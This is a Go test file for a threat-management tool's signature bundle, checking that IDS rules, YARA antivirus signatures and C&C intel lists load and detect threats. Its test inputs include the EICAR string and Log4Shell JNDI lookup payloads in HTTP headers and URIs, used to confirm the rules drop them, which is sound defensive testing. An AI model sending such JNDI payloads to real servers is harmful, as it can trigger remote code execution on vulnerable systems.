package bundle

import (
	"crypto/sha256"
	"encoding/hex"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/openutm/utm/signatures/rules"
)

func TestDefault(t *testing.T) {
	b, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	if len(b.RuleErrors) != 0 {
		t.Fatalf("default rules do not all load: %v", b.RuleErrors)
	}
	if b.Rules.Len() < 3 || b.AV.RuleCount < 1 || b.Intel.Len() < 300 {
		t.Fatalf("default bundle too small: rules %d yara %d intel %d", b.Rules.Len(), b.AV.RuleCount, b.Intel.Len())
	}
	if ind, ok := b.Intel.LookupDomain([]byte("cnc.utm-lab.test")); !ok || ind.Family != "utm-lab-test" {
		t.Fatalf("lab C&C domain missing: %v", ind)
	}
	eicar := []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`)
	if r, err := b.AV.Scan(eicar); err != nil || !r.Malicious || r.Threat != "EICAR-Test-File" {
		t.Fatalf("EICAR not detected: %+v %v", r, err)
	}
	in := &rules.Input{Proto: 6, App: "http", ToServer: true, Established: true,
		Src: netip.MustParseAddr("198.18.1.2"), Dst: netip.MustParseAddr("198.18.2.2"), SrcPort: 40000, DstPort: 80}
	in.Buf[rules.BufHTTPHeader] = []byte("Host: x\r\nX-Api-Version: ${jndi:ldap://198.18.2.66/a}\r\n")
	m := b.Rules.Match(in, nil)
	if len(m) != 1 || m[0].SID != 2200001 || m[0].Action != rules.Drop {
		t.Fatalf("Log4Shell rule: matched %v", m)
	}
}

// TestDefaultContents checks what the lab and the golden replays rely on.
func TestDefaultContents(t *testing.T) {
	b, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	if b.Version != DefaultVersion || !strings.HasPrefix(b.Version, "default-") {
		t.Errorf("version %q", b.Version)
	}
	if b.IntelStats.Bad != 0 || b.IntelStats.Domains < 300 {
		t.Errorf("cnc.list: %+v; want every line an indicator and a few hundred domains", b.IntelStats)
	}
	if ind, ok := b.Intel.LookupDomain([]byte("www.0debug.cc")); !ok || ind.Family != "0debug" {
		t.Errorf("maltrail sample family lost: %+v", ind)
	}
	for _, r := range b.Rules.Rules() {
		if !strings.HasPrefix(r.Msg, "UTM ") || r.SID < 2200000 || r.SID > 2209999 || r.Classtype == "" || r.Category == "" {
			t.Errorf("default rule sid %d %q: needs msg prefix UTM, sid in 2200000-2209999, a classtype", r.SID, r.Msg)
		}
	}
	// Log4Shell in the URI, through the legacy-syntax rule.
	in := &rules.Input{Proto: 6, App: "http", ToServer: true, Established: true,
		Src: netip.MustParseAddr("198.18.1.2"), Dst: netip.MustParseAddr("198.18.2.2"), SrcPort: 40000, DstPort: 80}
	in.Buf[rules.BufHTTPURI] = []byte("/?x=${JNDI:ldap://198.18.2.66/a}")
	if m := b.Rules.Match(in, nil); len(m) != 1 || m[0].SID != 2200002 || m[0].Stars() != 2 {
		t.Fatalf("Log4Shell in URI: matched %v", m)
	}
	// A benign request stays quiet.
	in.Buf[rules.BufHTTPURI] = []byte("/index.html")
	in.Buf[rules.BufHTTPHeader] = []byte("Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n")
	if m := b.Rules.Match(in, nil); len(m) != 0 {
		t.Fatalf("benign request matched %v", m)
	}
	if r, err := b.AV.Scan([]byte("an ordinary text file mentioning EICAR")); err != nil || r.Malicious {
		t.Fatalf("benign file: %+v %v", r, err)
	}
}

// TestOverlays loads configured files on top of the defaults.
func TestOverlays(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	rulesFile := write("local.rules", "alert dns any any -> any any (msg:\"local\"; dns.query; content:\"bad.test\"; sid:9000001;)\n")
	write("yara/local.yar", `rule Local_Marker { meta: threat = "Local-Marker" strings: $a = "local-marker-4242" condition: $a }`)
	write("yara/broken.yar", `rule broken { condition: $missing }`)
	sample := []byte("a file listed by hash")
	sum := sha256.Sum256(sample)
	hashes := write("local.hsb", hex.EncodeToString(sum[:])+":*:Local.Hash\n")
	intelFile := write("extra.list", "# extra\nc2.extra.test extra-family\n192.0.2.99\n")
	b, err := Load(Options{RuleFiles: []string{rulesFile}, YaraDirs: []string{filepath.Join(dir, "yara")},
		HashFiles: []string{hashes}, IntelFiles: []string{intelFile}})
	if err != nil {
		t.Fatal(err)
	}
	def, _ := Default()
	if b.Rules.Len() != def.Rules.Len()+1 {
		t.Errorf("rules %d, want the %d defaults plus 1", b.Rules.Len(), def.Rules.Len())
	}
	if b.Version != DefaultVersion+"+local.rules" {
		t.Errorf("version %q", b.Version)
	}
	if len(b.AVErrors) != 1 || !strings.Contains(b.AVErrors[0].File, "broken.yar") {
		t.Errorf("AV errors %v; want the broken file reported", b.AVErrors)
	}
	for data, threat := range map[string]string{"xx local-marker-4242 xx": "Local-Marker", string(sample): "Local.Hash"} {
		if r, err := b.AV.Scan([]byte(data)); err != nil || r.Threat != threat {
			t.Errorf("scan: %+v %v, want %s", r, err, threat)
		}
	}
	if ind, ok := b.Intel.LookupDomain([]byte("c2.extra.test")); !ok || ind.Family != "extra-family" {
		t.Errorf("extra intel: %+v", ind)
	}
	if _, ok := b.Intel.LookupDomain([]byte("cnc.utm-lab.test")); !ok {
		t.Error("default intel lost when files were added")
	}
	if _, ok := b.Intel.LookupIP(netip.MustParseAddr("192.0.2.99")); !ok {
		t.Error("extra intel IP missing")
	}
	if _, err := Load(Options{IntelFiles: []string{filepath.Join(dir, "absent.list")}}); err == nil {
		t.Error("a missing intel file must be an error")
	}
}

func TestReplaceRules(t *testing.T) {
	f := filepath.Join(t.TempDir(), "local.rules")
	os.WriteFile(f, []byte("alert http any any -> any any (msg:\"local\"; http.uri; content:\"/x\"; sid:9000001;)\nalert bogus\n"), 0o644)
	b, err := Load(Options{RuleFiles: []string{f}, NoDefaultRules: true})
	if err != nil {
		t.Fatal(err)
	}
	if b.Rules.Len() != 1 || len(b.RuleErrors) != 1 || b.RuleErrors[0].Line != 2 {
		t.Fatalf("rules %d errors %v", b.Rules.Len(), b.RuleErrors)
	}
	if _, err := Load(Options{RuleFiles: []string{"/nonexistent.rules"}}); err == nil {
		t.Fatal("a missing rule file must be an error")
	}
}
